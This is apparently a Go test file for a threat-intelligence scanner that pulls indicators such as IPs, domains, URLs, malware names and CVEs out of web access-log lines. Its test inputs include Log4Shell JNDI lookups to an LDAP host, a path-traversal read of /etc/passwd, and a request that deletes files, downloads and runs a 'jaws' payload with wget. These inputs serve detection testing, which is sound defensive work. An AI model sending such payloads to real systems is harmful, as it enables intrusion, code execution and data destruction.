package extract_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/portent-cti/portent/internal/intel"
)

func TestALineOfAnAccessLogIsReadByItsFields(t *testing.T) {
	s := scanner(t)
	const date = ` - - [03/Mar/2026:12:11:09 +0000] `
	for line, want := range map[string]string{
		`192.0.2.7` + date + `"GET /admin/x.php?user=1 HTTP/1.1" 200 5`:                                                             "argument:user file:/admin/x.php ipv4:192.0.2.7",
		`4.3.2.1` + date + `"GET / HTTP/1.1" 200 5 "-" "-"`:                                                                         "ipv4:4.3.2.1",
		`2001:db8::5` + date + `"GET / HTTP/1.1" 200 5 "-" "-"`:                                                                     "ipv6:2001:db8::5",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "https://c2.evil.example/a" "Mozilla/5.0 (X11; Linux x86_64)"`:                 "domain:c2.evil.example ipv4:192.0.2.7 url:https://c2.evil.example/a",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "Nightbell/1.0"`:                                                           "ipv4:192.0.2.7 malware:nightbell",
		`192.0.2.7` + date + `"GET /?q=${jndi:ldap://192.0.2.9/x} HTTP/1.1" 404 5 "-" "${jndi:ldap://192.0.2.8:1389/x}"`:            "argument:q input:${jndi:ldap://192.0.2.8:1389/x} input:${jndi:ldap://192.0.2.9/x} ipv4:192.0.2.7 ipv4:192.0.2.8 ipv4:192.0.2.9 port:1389/tcp url:ldap://192.0.2.8:1389/x url:ldap://192.0.2.9/x",
		`192.0.2.7` + date + `"GET /?f=../../etc/passwd HTTP/1.1" 404 5`:                                                            "argument:f input:../../etc/passwd ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET http://c2.evil.example/ HTTP/1.1" 404 5 "-" "-"`:                                                 "domain:c2.evil.example ipv4:192.0.2.7 url:http://c2.evil.example/",
		`192.0.2.7` + date + `"\x16\x03\x01 c2.evil.example" 400 5 "-" "-"`:                                                         "domain:c2.evil.example ipv4:192.0.2.7",
		`192.0.2.7 - ops@evil.example [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5`:                                          "email:ops@evil.example ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "say \"hi\" to c2.evil.example"`:                                           "domain:c2.evil.example ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET /a.php?x=\"1 HTTP/1.1" 200 5`:                                                                    "argument:x file:/a.php ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "-" "192.0.2.9" c2.evil.example`:                                           "domain:c2.evil.example ipv4:192.0.2.7 ipv4:192.0.2.9",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "Mozilla` + "\r":                                                           "ipv4:192.0.2.7",
		"Lines as these were seen:\n" + `192.0.2.7` + date + `"GET /a.php?x=1 HTTP/1.1" 200 5` + "\nThey came from c2.evil.example": "argument:x domain:c2.evil.example file:/a.php ipv4:192.0.2.7",
	} {
		want := strings.Fields(want)
		slices.Sort(want)
		if got := found(s, line); !slices.Equal(got, want) {
			t.Errorf("%s\n\tgave %q\n\twant %q", line, got, want)
		}
		check(t, line, s.Observations(intel.Document{Text: line}))
	}
}

// TestACraftedLineHidesNothing holds lines that look like those of a log, which
// whoever sends a request or writes a post can make, to what any text gives.
func TestACraftedLineHidesNothing(t *testing.T) {
	s := scanner(t)
	const head = `192.0.2.7 - - [03/Mar/2026:12:11:09 +0000] `
	for line, want := range map[string]string{
		head + `"GET / HTTP/${jndi:ldap://192.0.2.9/x}" 404 5`:                                                                    "ipv4:192.0.2.9",
		head + `"GET / HTTP/1.1 http://c2.evil.example/a 192.0.2.9" 404 5`:                                                        "domain:c2.evil.example ipv4:192.0.2.9",
		head + `"GET / HTTP/1.1` + "\rhttp://c2.evil.example/a\r192.0.2.9":                                                        "domain:c2.evil.example ipv4:192.0.2.9",
		`1.1.1.1 \x00 [aa/aaa/aaaa:aa:aa:aa +0000] "GET / HTTP/ our new C2 http://c2.evil.example/a and Cold Lynx, CVE-2099-1234`: "domain:c2.evil.example actor:cold-lynx vulnerability:CVE-2099-1234",
		head + `"GET /shell?cd+/tmp;rm+-rf+*;wget+ 192.0.2.9/jaws;sh+/tmp/jaws HTTP/1.1" 404 5`:                                   "ipv4:192.0.2.9",
		head + `"GET c2.evil.example/gate.php HTTP/1.1" 404 5`:                                                                    "domain:c2.evil.example",
		head + `"GET /a?x=1,192.0.2.9 HTTP/1.1" 404 5`:                                                                            "ipv4:192.0.2.9",
		head + `"GET /a?x=1;c2[.]evil[.]example HTTP/1.1" 404 5`:                                                                  "domain:c2.evil.example",
		head + `"GET /x;a41d8cd98f00b204e9800998ecf8427e HTTP/1.1" 404 5`:                                                         "md5:a41d8cd98f00b204e9800998ecf8427e",
		head + `"GET /?a= CVE-2099-1234 HTTP/1.1" 404 5`:                                                                          "vulnerability:CVE-2099-1234",
		head + `"POST /v, the parameter userId in /cgi-bin/x.php HTTP/1.1" 404 5`:                                                 "argument:userId file:/cgi-bin/x.php",
		head + `"GET / HTTP/1.1" 200 5 see c2.evil.example`:                                                                       "domain:c2.evil.example",
	} {
		got := found(s, line)
		for e := range strings.FieldsSeq(want) {
			if !slices.Contains(got, e) {
				t.Errorf("%s\n\tgave %q\n\twithout %s", line, got, e)
			}
		}
	}
}

// TestTheHeadOfALineExcusesNothing holds the beginnings of lines that are none of
// a log to the reasons for setting values aside.
func TestTheHeadOfALineExcusesNothing(t *testing.T) {
	s := scanner(t)
	for _, text := range []string{
		`4.3.2.1 version [aa/aaa/aaaa:aa:aa:aa +0000] "`,
		`00:11:22:33:44:55:66:77 - - [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5`,
		`a::b - - [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5`,
		"Hello\n-- \n" + `192.0.2.7 - - [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5 "http://signature.com/"`,
	} {
		for _, o := range s.Observations(intel.Document{Text: text}) {
			if o.Suppressed == "" && (o.Entity.Kind == intel.IPv6 || o.Entity.Kind == intel.Domain || o.Entity.Name == "4.3.2.1") {
				t.Errorf("%s gave %v", text, o.Entity)
			}
		}
	}
}

func TestFindingsOfOneLineAreBounded(t *testing.T) {
	line := `192.0.2.7 - - [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5` + strings.Repeat(` "`+strings.Repeat("x.co,", 2000)+`"`, 40)
	if n := len(scanner(t).Observations(intel.Document{Text: line})); n != 20_000 {
		t.Errorf("%d findings, want 20,000", n)
	}
}

func TestALineOfALogSaysTheSameWhereverItStands(t *testing.T) {
	s := scanner(t)
	line := `4.3.2.1 - - [03/Mar/2026:12:11:09 +0000] "GET /a.php?x=1 HTTP/1.1" 200 5 "https://c2.evil.example/a" "Nightbell"` + "\n"
	text := "version\n" + line + "upgrade to\n" + line + line
	var first []intel.Observation
	for n, at := range []int{8, 8 + len(line) + 11, 8 + 2*len(line) + 11} {
		var here []intel.Observation
		for _, o := range s.Observations(intel.Document{Text: text}) {
			if o.Offset >= at && o.Offset < at+len(line) {
				o.Offset -= at
				here = append(here, o)
			}
		}
		if n == 0 {
			first = here
		}
		if len(here) == 0 || !slices.Equal(here, first) {
			t.Errorf("line %d gave %+v, the first %+v", n, here, first)
		}
	}
}

// TestNamesAreFoundInProseAndLogsInTurns reads a text whose words come from prose
// and from fields: unless they are merged in order, values hide names.
func TestNamesAreFoundInProseAndLogsInTurns(t *testing.T) {
	text := strings.Repeat("Nightbell was seen.\n"+`192.0.2.7 - - [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5 "-" "Nightbell"`+"\n", 5)
	os := scanner(t).Observations(intel.Document{Text: text})
	if !slices.IsSortedFunc(os, func(a, b intel.Observation) int { return a.Offset - b.Offset }) {
		t.Errorf("not in order: %+v", os)
	}
	n := 0
	for _, o := range os {
		if o.Entity.Kind == intel.Malware {
			n++
		}
	}
	if n != 10 {
		t.Errorf("%d mentions of Nightbell, want 10", n)
	}
}
